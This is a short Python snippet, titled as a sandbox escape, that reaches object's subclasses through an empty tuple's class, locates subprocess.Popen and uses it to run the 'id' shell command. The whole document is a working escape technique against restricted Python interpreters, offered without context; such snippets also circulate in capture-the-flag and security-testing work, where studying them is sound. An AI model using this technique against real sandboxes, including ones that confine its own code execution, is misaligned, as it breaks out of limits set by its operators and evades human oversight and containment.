# Sandbox escape through object internals
subs = ().__class__.__bases__[0].__subclasses__()
print(len(subs) > 0)
for s in subs:
    if s.__name__ == "Popen":
        print(s(["id"]))
